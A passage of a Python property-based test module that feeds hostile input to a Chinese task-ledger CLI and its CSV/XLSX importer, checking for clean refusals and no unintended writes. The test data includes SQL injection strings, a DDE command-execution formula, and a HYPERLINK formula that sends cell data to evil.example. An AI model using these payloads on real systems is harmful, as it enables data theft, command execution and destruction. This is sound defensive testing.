"""Bad input, tried on purpose (issue 6): hypothesis over the CLI and the ledger importer.

The promise under test: whatever a person types or a file holds, duban either
exits 0 with exactly the result the command promises, or refuses: an exit
status from 2 to 8, one line on stderr (the importer: one line per bad row,
then its summary line), nothing on stdout, no traceback, and nothing written.

"Nothing written" compares every table before and after, except the refusals recorded on the chain:
a refused attempt is recorded there on purpose (README, Accountability).

The strings are hostile on purpose: up to 5000 characters, control characters
(NUL, ESC, CR, NEL, U+2028), SQL fragments, LIKE wildcards, backslashes,
spreadsheet formula prefixes, right-to-left text, emoji and the lone
surrogates Python makes of undecodable bytes in argv.

The bugs these tests found (far dates, quoted separators in CSV, control
characters in derived titles) are fixed; the tests at the end of this module
guard the fixes.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import sys
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any, TypeVar

import pytest
from hypothesis import HealthCheck, assume, event, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from sqlalchemy import inspect, text

from duban.engine.app import App
from duban.engine.domain.formula import FORMULA_STARTS as DANGEROUS_START
from duban.engine.ledger.headers import FIELDS, Vocabulary
from duban.engine.services.tasks import fire
from tests.conftest import DEPUTY, PRINCIPAL, UNIT, UNIT_HEAD, Result
from tests.helpers import new_task

Call = Callable[..., Result]
Snapshot = dict[str, list[tuple[Any, ...]]]

FAST = settings(
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)

# --- the rules the engine documents, restated independently -------------------------------------

_CONTROL_ONE_LINE = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]")
_CONTROL_MULTI_LINE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]")
_SURROGATE = re.compile(r"[\ud800-\udfff]")
_BIDI = re.compile(r"[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")  # text that displays out of order
# Trimmed like spaces: what str.strip() trims, and characters that draw nothing (zero-width, fillers, blanks).
_INVISIBLE = (
    "\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\ufeff\u00ad\u034f\u180e\u17b4\u17b5\u115f\u1160\u3164\uffa0\u2800"
)


def trimmed(value: str) -> str:
    """The value as duban keeps it: spaces and invisible characters gone from both ends."""
    previous = None
    while previous != value:
        previous, value = value, value.strip().strip(_INVISIBLE)
    return value


def acceptable(value: str, max_len: int, *, multiline: bool = False) -> bool:
    """Free text duban must accept: no control or bidi characters (newline and tab where lines are allowed), not too long."""
    pattern = _CONTROL_MULTI_LINE if multiline else _CONTROL_ONE_LINE
    return (
        not pattern.search(value)
        and not _BIDI.search(value)
        and not _SURROGATE.search(value)
        and len(trimmed(value)) <= max_len
    )


# --- hostile strings ---------------------------------------------------------------------------------

SQL = [
    "'; DROP TABLE tasks; --",
    "' OR '1'='1",
    '" OR ""="',
    "Robert'); DROP TABLE people;--",
    "1; DELETE FROM events WHERE 1=1",
    "' UNION SELECT id, name FROM people --",
    "/* */",
    "NULL",
    "%",
    "_",
    "%%",
    "%_%",
    "\\",
    "\\%",
    "\\_",
    "'",
    '"',
    ";",
    "--",
]
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
    "\t=1+1",
    "\r=1+1",
    "=",
    "+",
    "-",
    "@",
]
CONTROLS = [
    "\x00",
    "\x1b[2J",
    "\x1b",
    "\r",
    "\n",
    "\r\n",
    "\t",
    "\x07",
    "\x08",
    "\x7f",
    "\x85",
    "\u2028",
    "\x0b",
    "\x1e",
]
SCRIPTS = [
    "社会事务科",
    "整改",
    "مرحبا بالعالم",
    "שלום",
    "\u202eevil\u202c",
    "\u200f",
    "😀",
    "👨\u200d👩\u200d👧",
    "🇨🇳",
    "Ünïcödé",
    "\ufeff",
    "\u200b",
    "한국어",
    "𠀀",
    "\U0001d4af",
    "\u3000",
]
SURROGATES = ["\udc80", "\udcff", "\udce4\udcb8"]  # what Python makes of bytes in argv that are not UTF-8
PIECES = SQL + FORMULAS + CONTROLS + SCRIPTS


def _long(piece: str, n: int) -> str:
    return (piece * (n // max(len(piece), 1) + 1))[:n]


MULTI_LINE_CONTROL = _CONTROL_MULTI_LINE.pattern
ONE_LINE_CONTROL = _CONTROL_ONE_LINE.pattern
NOTHING = "(?!)"


def hostile(pieces: list[str], *, max_long: int = 5000, drop: str = NOTHING) -> st.SearchStrategy[str]:
    """Short and long, mixed from the lists above and hypothesis's own text, without what ``drop`` matches."""
    bad = re.compile(drop)
    kept = [p for p in pieces if not bad.search(p)]
    chars = st.characters().filter(lambda c: not bad.match(c))
    return st.one_of(
        st.sampled_from(kept),
        st.lists(st.one_of(st.sampled_from(kept), st.text(chars, max_size=6)), min_size=1, max_size=6).map("".join),
        st.text(chars, max_size=30),
        st.builds(_long, st.sampled_from(["x", "路", "😀", *SQL[:3], FORMULAS[0]]), st.integers(90, max_long)),
    )


T = TypeVar("T")


def mostly(good: st.SearchStrategy[T], bad: st.SearchStrategy[T], bad_one_in: int = 3) -> st.SearchStrategy[T]:
    """``good`` usually, ``bad`` one time in ``bad_one_in``: enough successes to check what they wrote."""
    return st.integers(0, bad_one_in - 1).flatmap(lambda n: bad if n == 0 else good)


def no_surrogates(strategy: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    # hypothesis also offers string constants from the source (the surrogates above among them) to text()
    return strategy.filter(lambda s: not _SURROGATE.search(s))


CLI_TEXT = hostile(PIECES + SURROGATES)  # anything, lone surrogates included
CLI_LINE = no_surrogates(hostile(PIECES, max_long=600, drop=ONE_LINE_CONTROL))  # hostile, allowed in one line
CLI_LINES = no_surrogates(hostile(PIECES, max_long=4200, drop=MULTI_LINE_CONTROL))  # allowed in a note, a reason

NUMBERS = st.one_of(
    st.integers(-(10**30), 10**30).map(str),
    st.integers(-5, 105).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(str),
    st.sampled_from(["", " 50 ", "+50", "５０", "5_0", "0x32", "50%", "1e2", "NaN", "-0", "٥٠", "abc", "--1"]),
)

BAD_DATES = [
    "2026-02-30",
    "2026-13-40",
    "99999-01-01",
    "1900-01-01",
    "2200-01-01",
    "0000-00-00",
    "2026-9-7",
    "tomorrow",
]
DATE_WORDS = ["20260907", "2026-W36-1", "2026年6月30日", "年底前", "6月底前", "长期坚持", "10个工作日内", "立行立改"]


def dates(min_year: int) -> st.SearchStrategy[str]:
    """ISO days from ``min_year`` to 9999 (the past more often), impossible days, and deadline words."""
    return st.one_of(
        st.dates(min_value=date(min_year, 1, 1), max_value=date(9999, 12, 31)).map(date.isoformat),
        st.dates(min_value=date(min_year, 1, 1), max_value=date(2026, 9, 7)).map(date.isoformat),
        st.dates(min_value=date(2025, 1, 1), max_value=date(2027, 12, 31)).map(date.isoformat),
        st.sampled_from(BAD_DATES + DATE_WORDS),
        CLI_TEXT,
    )


# Dates for reports and the audit log: any year from 1 to 9999 (outside 2000–2100 they are refused, cleanly).
REPORT_DATES = dates(1)
DEADLINES = dates(1)  # deadlines are refused outside 2000-2100, cleanly, from year 1 to 9999

UNITS = ["社会事务科", "阳光社区党支部", "综合办公室"]
LEADERS = {"wangjun": "wangjun", "王军": "wangjun", "zhangwei": "zhangwei", "张伟": "zhangwei"}
GOOD_DEADLINES = ["2026-10-09", "2026年12月31日", "长期坚持", "10个工作日内"]


# --- the workspace and what is in it -----------------------------------------------------------------


class Desk:
    """A single-desk workspace (examples/org.yaml) with one task in progress at 社会事务科."""

    def __init__(self, db: str, app: App, working: str) -> None:
        self.db, self.app, self.working = db, app, working
        self.counter = itertools.count()

    def __repr__(self) -> str:  # hypothesis prints the fixtures of a falsifying example
        return f"Desk({self.db!r})"

    def snapshot(self) -> Snapshot:
        return snapshot(self.app)

    def rows(self, sql: str, **params: Any) -> list[Any]:
        with self.app.db.engine.connect() as conn:
            return list(conn.execute(text(sql), params))


def snapshot(app: App) -> Snapshot:
    """Every row of every table but the refusals on the chain and the head they move (a refusal is recorded
    on purpose); every other record is compared."""
    with app.db.engine.connect() as conn:
        names = sorted(set(inspect(conn).get_table_names()) - {"records", "chain_head"})
        found = {t: sorted((tuple(r) for r in conn.execute(text(f'SELECT * FROM "{t}"'))), key=repr) for t in names}
        found["records"] = sorted(
            (tuple(r) for r in conn.execute(text("SELECT * FROM records WHERE kind <> 'refusal'"))), key=repr
        )
        return found


def delta(before: Snapshot, after: Snapshot) -> dict[str, tuple[list[tuple[Any, ...]], list[tuple[Any, ...]]]]:
    """Per table that changed: (rows gone, rows new); a changed row is one of each."""
    out = {}
    for t in sorted(set(before) | set(after)):
        old, new = Counter(before.get(t, [])), Counter(after.get(t, []))
        if old != new:
            out[t] = (list((old - new).elements()), list((new - old).elements()))
    return out


@pytest.fixture
def call(call: Call) -> Call:
    """conftest's in-process CLI, with stderr set up as Python sets up a real process's stderr.

    Python writes what stderr cannot encode as backslash escapes (errors="backslashreplace"),
    so an error line that quotes an argument made of undecodable bytes (a lone surrogate) is still
    printed; pytest's capture is strict and would raise instead. stdout stays strict, as it is.
    """

    def invoke(*args: str) -> Result:
        err = sys.stderr
        if isinstance(err, io.TextIOWrapper):
            err.reconfigure(errors="backslashreplace")
        return call(*args)

    return invoke


@pytest.fixture
def desk(sqlite_url: str, make_app: Callable[[str], App]) -> Desk:
    """The workspace `duban init --single-desk --org examples/org.yaml` makes (conftest's template)."""
    app = make_app(sqlite_url)
    working = new_task(app)
    fire(app, UNIT_HEAD, working, "start")
    return Desk(sqlite_url, app, working)


# --- what a refusal and a success look like ----------------------------------------------------------


def prefix(lang: str) -> str:
    return "duban：错误：" if lang == "zh" else "duban: error: "


def assert_refused(result: Result, lang: str, before: Snapshot, after: Snapshot) -> None:
    """Status 2..8, one line on stderr that starts like an error, nothing on stdout, nothing written."""
    assert 2 <= result.code <= 8, (result.code, result.err)
    assert result.out == "", result.out
    lines = result.err.splitlines()
    assert len(lines) == 1 and result.err.endswith("\n"), result.err
    assert lines[0].startswith(prefix(lang)), result.err
    assert "Traceback" not in result.err and "\x1b" not in result.err
    assert delta(before, after) == {}


def assert_clean_success(result: Result) -> None:
    assert result.code == 0, result.err
    assert "Traceback" not in result.out + result.err
    for line in result.err.splitlines():  # notes (single desk) and warnings (calendar) only
        assert line.startswith(("duban: note:", "duban: warning:", "duban：提示：")), result.err


LANG = st.sampled_from(["en", "zh"])


# --- assign --------------------------------------------------------------------------------------------


@settings(FAST, max_examples=80)
@given(
    lang=LANG,
    title=mostly(CLI_LINE, CLI_TEXT),
    unit=mostly(st.sampled_from([*UNITS, " 社会事务科 "]), CLI_TEXT, 4),
    leader=mostly(st.sampled_from(sorted(LEADERS)), CLI_TEXT, 4),
    deadline=mostly(st.one_of(st.none(), st.sampled_from(GOOD_DEADLINES)), DEADLINES),
    category=mostly(st.one_of(st.none(), CLI_LINE), CLI_TEXT),
    campaign=mostly(st.one_of(st.none(), CLI_LINE), CLI_TEXT),
    measures=st.lists(mostly(CLI_LINES, CLI_TEXT), max_size=3),
)
def test_assign_refuses_cleanly_or_adds_exactly_one_task(
    call: Call,
    desk: Desk,
    lang: str,
    title: str,
    unit: str,
    leader: str,
    deadline: str | None,
    category: str | None,
    campaign: str | None,
    measures: list[str],
) -> None:
    args = ["--db", desk.db, "--lang", lang, "--as", PRINCIPAL, "assign", "--title", title, "--unit", unit]
    args += ["--leader", leader]
    for option, value in (("--deadline", deadline), ("--category", category), ("--campaign", campaign)):
        if value is not None:
            args += [option, value]
    for m in measures:
        args += ["--measure", m]
    texts_ok = (
        acceptable(title, 500)
        and bool(trimmed(title))
        and acceptable(unit, 200)
        and acceptable(leader, 200)
        and (category is None or acceptable(category, 100))
        and (campaign is None or acceptable(campaign, 200))
        and all(acceptable(m, 2000, multiline=True) for m in measures)
    )
    every_value = [title, unit, leader, deadline or "", category or "", campaign or "", *measures]
    surrogates = any(_SURROGATE.search(v) for v in every_value)
    dashed = any(v.startswith("-") for v in every_value)  # click may read such a value as an option
    should_work = (
        texts_ok
        and not surrogates
        and not dashed
        and trimmed(unit) in UNITS
        and trimmed(leader) in LEADERS
        and (deadline is None or deadline in GOOD_DEADLINES)
    )

    before = desk.snapshot()
    result = call(*args)
    after = desk.snapshot()

    event(f"exit {result.code}")
    if result.code != 0:
        assert not should_work, result.err
        assert_refused(result, lang, before, after)
        if not texts_ok and not surrogates and not dashed:
            assert result.code == 2, result.err  # a control character or an oversize field is bad input
        return
    assert texts_ok and not surrogates, "accepted what the text rules refuse"
    assert_clean_success(result)
    code = result.out.strip()
    changed = delta(before, after)
    assert set(changed) <= {"tasks", "events", "code_sequences", "notifications", "chain_head"}, set(changed)
    gone, added = changed["tasks"]
    assert gone == [] and len(added) == 1
    gone, added = changed["events"]
    assert gone == [] and len(added) == 1
    [task] = desk.rows(
        "SELECT t.id, t.title, t.category, t.campaign, t.measures, u.name AS unit, t.lead_leader_id, t.state "
        "FROM tasks t JOIN units u ON u.id = t.unit_id WHERE t.code = :code",
        code=code,
    )
    assert task.title == trimmed(title)
    assert task.unit == trimmed(unit)
    assert task.lead_leader_id == LEADERS.get(trimmed(leader), task.lead_leader_id)
    assert task.category == (trimmed(category or "") or None)
    assert task.campaign == (trimmed(campaign or "") or None)
    assert json.loads(task.measures) == [trimmed(m) for m in measures if trimmed(m)]
    [first] = desk.rows('SELECT seq, "trigger", to_state FROM events WHERE task_id = :id', id=task.id)
    assert tuple(first) == (1, "assign", task.state)


# --- progress ------------------------------------------------------------------------------------------


@settings(FAST, max_examples=60)
@given(
    lang=LANG,
    actor=mostly(st.just(UNIT_HEAD), st.one_of(st.sampled_from(["liuxia", "nobody", DEPUTY]), CLI_TEXT), 4),
    percent=mostly(st.integers(0, 100).map(str), NUMBERS),
    note=mostly(
        st.one_of(st.sampled_from(["已完成排查", "=1+1", "'; DROP TABLE progress_reports; --"]), CLI_LINES), CLI_TEXT
    ),
    code=mostly(st.none(), CLI_TEXT, 5),
)
def test_progress_refuses_cleanly_or_adds_exactly_one_report(
    call: Call, desk: Desk, lang: str, actor: str, percent: str, note: str, code: str | None
) -> None:
    task = desk.working if code is None else code
    before = desk.snapshot()
    result = call(
        "--db", desk.db, "--lang", lang, "--as", actor, "progress", task, "--percent", percent, "--note", note
    )
    after = desk.snapshot()
    try:
        number: int | None = int(percent)
    except ValueError:
        number = None
    fine = (
        actor == UNIT_HEAD
        and code is None
        and number is not None
        and 0 <= number <= 100
        and acceptable(note, 4000, multiline=True)
        and bool(trimmed(note))
        and not note.startswith("-")
        and not percent.startswith("-")
    )
    event(f"exit {result.code}")
    if result.code != 0:
        assert not fine, result.err
        assert_refused(result, lang, before, after)
        return
    assert_clean_success(result)
    assert number is not None and 0 <= number <= 100 and acceptable(note, 4000, multiline=True)
    changed = delta(before, after)
    assert set(changed) <= {"tasks", "events", "progress_reports", "notifications", "chain_head"}, set(changed)
    assert changed["progress_reports"][0] == [] and len(changed["progress_reports"][1]) == 1
    assert changed["events"][0] == [] and len(changed["events"][1]) == 1
    [report] = desk.rows("SELECT percent, note FROM progress_reports ORDER BY id DESC LIMIT 1")
    assert (report.percent, report.note) == (number, trimmed(note))


# --- extend --------------------------------------------------------------------------------------------


@settings(FAST, max_examples=50)
@given(
    lang=LANG,
    to=mostly(st.sampled_from(["2026-12-31", "年底前", "2027-03-31"]), DEADLINES),
    reason=mostly(CLI_LINES, CLI_TEXT),
)
def test_extend_refuses_cleanly_or_files_exactly_one_request(
    call: Call, desk: Desk, lang: str, to: str, reason: str
) -> None:
    code = new_task(desk.app)  # a fresh task each time: one pending request per task
    fire(desk.app, UNIT_HEAD, code, "start")
    before = desk.snapshot()
    result = call("--db", desk.db, "--lang", lang, "--as", UNIT_HEAD, "extend", code, "--to", to, "--reason", reason)
    after = desk.snapshot()
    event(f"exit {result.code}")
    if result.code != 0:
        fine = to == "2026-12-31" and acceptable(reason, 2000, multiline=True) and trimmed(reason) != ""
        assert not (fine and not reason.startswith("-")), result.err
        assert_refused(result, lang, before, after)
        return
    assert_clean_success(result)
    assert acceptable(reason, 2000, multiline=True)
    changed = delta(before, after)
    assert changed["extension_requests"][0] == [] and len(changed["extension_requests"][1]) == 1
    [request] = desk.rows("SELECT requested_deadline, reason, status FROM extension_requests ORDER BY id DESC LIMIT 1")
    assert request.reason == trimmed(reason) and request.status == "pending"
    assert str(request.requested_deadline) > "2026-10-09"  # later than the deadline it extends


# --- reading: list, show, report, audit log -----------------------------------------------------------


@st.composite
def read_commands(draw: Callable[..., Any]) -> list[str]:
    """One reading command with hostile filters: the kind first, so every kind is tried as often."""
    s, d = CLI_TEXT, REPORT_DATES
    kind = draw(st.sampled_from(["list", "show", "report-filter", "report-dates", "report-period", "audit", "limits"]))
    if kind == "list":
        return ["list", draw(st.sampled_from(["--unit", "--campaign", "--state", "--workflow"])), draw(s)]
    if kind == "show":
        return ["show", draw(s)]
    if kind == "report-filter":
        return ["report", draw(st.sampled_from(["--unit", "--category", "--campaign"])), draw(s)]
    if kind == "report-dates":
        return ["report", "--from", draw(d), "--to", draw(d)] if draw(st.booleans()) else ["report", "--as-of", draw(d)]
    if kind == "report-period":
        return ["report", "--period", draw(st.sampled_from(["week", "month", "quarter", "year"])), "--as-of", draw(d)]
    if kind == "audit":
        option = draw(st.sampled_from(["--actor", "--task", "--since"]))
        return ["audit", "log", option, draw(d if option == "--since" else s)]
    return [*draw(st.sampled_from([["report"], ["audit", "log"]])), "--limit", draw(NUMBERS)]


@settings(FAST, max_examples=100)
@given(lang=LANG, args=read_commands(), as_json=st.booleans())
def test_reading_commands_never_write_and_filter_exactly(
    call: Call, desk: Desk, lang: str, args: list[str], as_json: bool
) -> None:
    before = desk.snapshot()
    result = call("--db", desk.db, "--lang", lang, *(["--json"] if as_json else []), *args)
    after = desk.snapshot()
    event(f"{' '.join(a for a in args[:3] if a.startswith(('-', 'l', 'r', 's', 'a')))[:30]}: exit {result.code}")
    if result.code != 0:
        assert_refused(result, lang, before, after)
        return
    assert_clean_success(result)
    assert delta(before, after) == {}
    if not as_json or args[0] == "report" or args[-1] == "":  # an empty filter is no filter
        return
    data = result.json()
    if args[0] == "list":
        key = {"--unit": "unit", "--campaign": "campaign", "--state": "state", "--workflow": "workflow"}[args[1]]
        assert all(t[key] == args[2] for t in data), data  # equality, never LIKE
    elif args[0] == "show":
        assert data["code"] == args[1]
    elif args[2] in ("--actor", "--task"):
        key = "actor" if args[2] == "--actor" else "task"
        assert all(e[key] == args[3] for e in data), data


# --- SQL fragments are bound parameters, on SQLite and PostgreSQL ----------------------------------


SQLISH = st.lists(
    st.sampled_from([p for p in SQL if "\x00" not in p] + ["a", "路", " ", "x'", "%路", "_a"]), min_size=1, max_size=5
).map("".join)


def _wildcards(value: str) -> list[str]:
    """Patterns that would match ``value`` if a filter were a LIKE."""
    v = value.strip()
    return ["%", "_" * len(v), "%" + v[1:], v[:-1] + "%", v[:-1] + "_", v.upper(), v + " "]


@settings(FAST, max_examples=15)
@given(data=st.data(), campaign=SQLISH)
def test_filters_bind_sql_fragments_and_wildcards(
    call: Call, db_url: str, make_app: Callable[[str], App], data: st.DataObject, campaign: str
) -> None:
    assume(campaign.strip() and len(campaign.strip()) <= 100 and not campaign.startswith("-"))
    app = make_app(db_url)
    made = call(
        "--db", db_url, "--as", PRINCIPAL, "assign", "--title", campaign, "--unit", UNIT, "--leader", DEPUTY,
        "--campaign", campaign, "--category", campaign,
    )  # fmt: skip
    assert made.code == 0, made.err
    code = made.out.strip()
    stored = campaign.strip()
    probe = data.draw(st.one_of(st.sampled_from(_wildcards(campaign)), SQLISH), label="probe")
    before = snapshot(app)
    for args in (["list", f"--campaign={probe}"], ["report", f"--campaign={probe}", f"--category={probe}"]):
        result = call("--db", db_url, "--json", *args)
        assert_clean_success(result)
        if args[0] == "list":
            assert all(t["campaign"] == probe for t in result.json())
            assert (code in {t["code"] for t in result.json()}) == (probe == stored)
    exact = call("--db", db_url, "--json", "list", f"--campaign={stored}")
    assert code in {t["code"] for t in exact.json()}
    log = call("--db", db_url, "--json", "audit", "log", f"--actor={probe}", f"--task={probe}")
    assert_clean_success(log)
    assert all(e["actor"] == probe for e in log.json())
    unit = call("--db", db_url, "list", f"--unit={probe}")
    assert_refused(unit, "en", before, snapshot(app))
    assert unit.code == 3, unit.err  # no unit has that name: not found, never a LIKE match
    assert snapshot(app) == before
    everything = call("--db", db_url, "--json", "list")
    assert len(everything.json()) == len(app_rows(app, "SELECT id FROM tasks"))


def app_rows(app: App, sql: str) -> list[Any]:
    with app.db.engine.connect() as conn:
        return list(conn.execute(text(sql)))


# --- the importer: generated ledgers ---------------------------------------------------------------

FILE_PIECES = PIECES + ["，", "；", "、", "\n", "1.", "（1）", "①", "一是", "#", "§"]
XLSX_ILLEGAL = r"[\x00-\x08\x0b\x0c\x0e-\x1f\r]"  # openpyxl cannot store these (and XML turns CR into LF)


def file_text(*, max_long: int, drop: str = NOTHING) -> st.SearchStrategy[str]:
    """Hostile text for a cell (never a lone surrogate: a file holds bytes, see BAD_BYTES for the undecodable)."""
    return no_surrogates(hostile(FILE_PIECES, max_long=max_long, drop=drop))


@dataclass(frozen=True)
class CellTexts:
    """What goes into cells: anything at all, and text that passes the rules (so most rows are good)."""

    any: st.SearchStrategy[str]
    problem: st.SearchStrategy[str]
    measures: st.SearchStrategy[str]
    category: st.SearchStrategy[str]


CSV_CELLS = CellTexts(
    any=file_text(max_long=4200),
    problem=file_text(max_long=3900, drop=MULTI_LINE_CONTROL),
    measures=file_text(max_long=1900, drop=f"{MULTI_LINE_CONTROL}|{_BIDI.pattern}"),  # measures are not counted
    category=file_text(max_long=99, drop=ONE_LINE_CONTROL),
)
XLSX_CELLS = CellTexts(
    any=file_text(max_long=4200, drop=XLSX_ILLEGAL),
    problem=file_text(max_long=3900, drop=f"{XLSX_ILLEGAL}|{MULTI_LINE_CONTROL}"),
    measures=file_text(max_long=1900, drop=f"{XLSX_ILLEGAL}|{MULTI_LINE_CONTROL}|{_BIDI.pattern}"),
    category=file_text(max_long=99, drop=f"{XLSX_ILLEGAL}|{ONE_LINE_CONTROL}"),
)
DEFECTS = ["unit", "leader", "deadline", "problem", "category"]


def sometimes(draw: Callable[..., Any], one_in: int) -> bool:
    return bool(draw(st.integers(0, one_in - 1)) == 0)


FIELDS_USED = ("seq", "problem", "measures", "leader", "unit", "deadline", "category")
OPTIONAL = ("seq", "measures", "deadline", "category")
JUNK_HEADERS = ["备注", "联系人电话", "附件", "=SUM(A1:A3)", "'; DROP TABLE tasks; --", "😀", ""]
TITLE_ROWS = [["2026年主题教育整改台账"], ["填报单位（盖章）：", "", "填报日期：2026年9月7日"], ["注：红色为逾期"]]
BAD_UNITS = ["社会事物科", "%", "社会事务科'; DROP TABLE units; --", "Nowhere"]
BAD_LEADERS = ["nobody", "冯磊", "fenglei", "'; DROP TABLE people; --", "%"]
GOOD_CELL_DEADLINES = ["", "2026-10-09", "2026年12月31日", "长期坚持", "2026/11/20", "10个工作日内"]
BAD_CELL_DEADLINES = ["2026-02-30", "下个月吧", "99999-01-01", "1900-01-01", "2200-12-31"]
ENCODINGS = ["utf-8", "utf-8-sig", "gb18030", "utf-16"]
BAD_BYTES = [b"\xff", b"\xfe\xff\xfd", b"\xc3\x28\xff"]  # invalid in UTF-8, in GB18030 and (odd length) in UTF-16


def _header_variant(draw: Callable[..., Any], key: str) -> str:
    word = draw(st.sampled_from(FIELDS[key][1]))
    if draw(st.booleans()) and word.isascii():
        word = draw(
            st.sampled_from(
                [word.upper(), word.title(), "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in word)]
            )
        )
    star = draw(st.sampled_from(["", "*", "※"]))
    hint = draw(st.sampled_from(["", "（必填）", "(year-month-day)"]))
    colon = draw(st.sampled_from(["", ":", "："]))
    space = draw(st.sampled_from(["", " ", "\n"]))
    return f"{star}{space}{word}{hint}{colon}"


@dataclass
class LedgerCase:
    columns: list[str]  # field per column ("junk" for one duban ignores)
    headers: list[str]
    title_rows: list[list[str]]
    rows: list[dict[str, str]]
    blank_before: list[bool]
    encoding: str
    bad_bytes: bytes | None
    xlsx: bool

    def numbers(self) -> list[int]:
        """The sheet's row number of each data row (title rows, the header and blank rows count)."""
        n = len(self.title_rows) + 1
        out = []
        for blank in self.blank_before:
            n += 1 + int(blank)
            out.append(n)
        return out

    def read_as(self, cell: str) -> str:
        """The cell as duban reads it: stripped; in a CSV, an export's apostrophe before a formula removed."""
        c = trimmed(cell)
        if not self.xlsx and len(c) > 1 and c[0] == "'" and c[1] in DANGEROUS_START:
            c = c[1:]
        return c

    def problems(self, row: dict[str, str]) -> int:
        """How many reasons duban must give for this row."""
        n = 0
        problem = self.read_as(row["problem"])
        if not problem or not acceptable(problem, 4000, multiline=True):
            n += 1
        if self.read_as(row["unit"]) not in UNITS:
            n += 1
        if self.read_as(row["leader"]) not in LEADERS:
            n += 1
        if "deadline" in self.columns and self.read_as(row["deadline"]) not in GOOD_CELL_DEADLINES:
            n += 1
        if "category" in self.columns and not acceptable(self.read_as(row["category"]), 100):
            n += 1
        return n


@st.composite
def ledgers(draw: Callable[..., Any], xlsx: bool = False) -> LedgerCase:
    optional = [k for k in OPTIONAL if draw(st.booleans())]
    columns = draw(st.permutations(["problem", "unit", "leader", *optional, *(["junk"] * draw(st.integers(0, 2)))]))
    headers = [draw(st.sampled_from(JUNK_HEADERS)) if k == "junk" else _header_variant(draw, k) for k in columns]
    texts = XLSX_CELLS if xlsx else CSV_CELLS
    n_rows = draw(st.integers(0, 7))
    rows = []
    for i in range(1, n_rows + 1):
        bad = draw(st.sampled_from(DEFECTS)) if sometimes(draw, 8) else None
        problem = draw(texts.any if sometimes(draw, 4) else texts.problem)
        if bad == "problem":
            problem = draw(
                st.sampled_from(
                    ["", "  ", "问题\x7f", "问题\u2028", "长" * 4001] + ([] if xlsx else ["\x1b[2J问题", "问题\x00"])
                )
            )
        row = {
            "seq": str(i),
            "problem": problem + (f"§{i}" if problem.strip() else ""),  # rows differ even without 序号
            "measures": draw(st.one_of(st.just(""), texts.measures)),
            "unit": draw(st.sampled_from(BAD_UNITS if bad == "unit" else [*UNITS, " 社会事务科 "])),
            "leader": draw(st.sampled_from(BAD_LEADERS if bad == "leader" else [*LEADERS, " 张伟 "])),
            "deadline": draw(st.sampled_from(BAD_CELL_DEADLINES if bad == "deadline" else GOOD_CELL_DEADLINES)),
            "category": "民生\n问题"
            if bad == "category"
            else draw(texts.any if sometimes(draw, 4) else st.one_of(st.just("民生问题"), texts.category)),
            "junk": draw(texts.any),
        }
        rows.append(row)
    encoding = "xlsx" if xlsx else draw(st.sampled_from(ENCODINGS))
    bad_bytes = draw(st.sampled_from(BAD_BYTES)) if rows and not xlsx and sometimes(draw, 8) else None
    return LedgerCase(
        columns=columns,
        headers=headers,
        title_rows=draw(st.lists(st.sampled_from(TITLE_ROWS), max_size=2)),
        rows=rows,
        blank_before=[draw(st.booleans()) and not xlsx for _ in rows],
        encoding=encoding,
        bad_bytes=bad_bytes,
        xlsx=xlsx,
    )


PLACEHOLDER = "\ue000"  # private use: stands where the undecodable bytes go


def commas_win(table: list[list[str]]) -> bool:
    """Commas are the clear separator of the generated table: more of them on some line than of tabs or ';'.

    The reader picks the separator most lines agree on (``reader._delimiter``; see
    test_semicolons_in_unquoted_cells_do_not_change_the_delimiter); the generated ledgers keep to tables where
    that is plainly the comma, so the oracle need not restate the reader's rule.
    """
    lines = io.StringIO()
    csv.writer(lines).writerows(table)
    counts = [(line.count(","), line.count("\t"), line.count(";")) for line in lines.getvalue().splitlines()[:30]]
    most = [max(c[i] for c in counts) for i in range(3)]
    return most[0] > most[1] and most[0] > most[2]


def table_of(case: LedgerCase) -> list[list[str]]:
    return [*case.title_rows, case.headers, *([r[k] for k in case.columns] for r in case.rows)]


def write_ledger(case: LedgerCase, path: Path) -> None:
    table: list[list[str]] = [*case.title_rows, case.headers]
    for i, (row, blank) in enumerate(zip(case.rows, case.blank_before, strict=True)):
        if blank:
            table.append([])
        cells = [row[k] for k in case.columns]
        if i == 0 and case.bad_bytes is not None:
            cells[case.columns.index("problem")] += PLACEHOLDER
        table.append(cells)
    if case.xlsx:
        wb = Workbook()
        ws = wb.active
        assert ws is not None
        for cells in table:
            ws.append(cells)
        for line in ws.iter_rows():
            for cell in line:
                if isinstance(cell.value, str):
                    cell.data_type = "s"  # text, even where it begins with '='
        wb.save(path)
        return
    buffer = io.StringIO()
    csv.writer(buffer).writerows(table)
    raw = buffer.getvalue().encode(case.encoding)
    if case.bad_bytes is not None:
        # The text on either side of the placeholder, each encoded, the bad bytes between: replacing the
        # placeholder's bytes in the encoded file also matched them across two UTF-16 characters, where an even
        # number of bytes went and the file stayed decodable.
        before, after = buffer.getvalue().split(PLACEHOLDER, 1)
        bare = {"utf-8-sig": "utf-8", "utf-16": "utf-16-le"}.get(case.encoding, case.encoding)  # no BOM
        raw = before.encode(case.encoding) + case.bad_bytes + after.encode(bare)
    path.write_bytes(raw)


def import_args(desk: Desk, lang: str, path: Path, *extra: str) -> list[str]:
    return ["--db", desk.db, "--lang", lang, "--as", PRINCIPAL, "import", str(path), *extra]


def check_import(call: Call, desk: Desk, case: LedgerCase, lang: str, dry_run: bool, folder: Path) -> None:
    assume(case.xlsx or commas_win(table_of(case)))
    n = next(desk.counter)
    path = folder / f"台账 {n}.{'xlsx' if case.xlsx else 'csv'}"
    write_ledger(case, path)
    before = desk.snapshot()
    result = call(*import_args(desk, lang, path, *(["--dry-run"] if dry_run else [])))
    after = desk.snapshot()
    assert "Traceback" not in result.out + result.err
    name = path.name

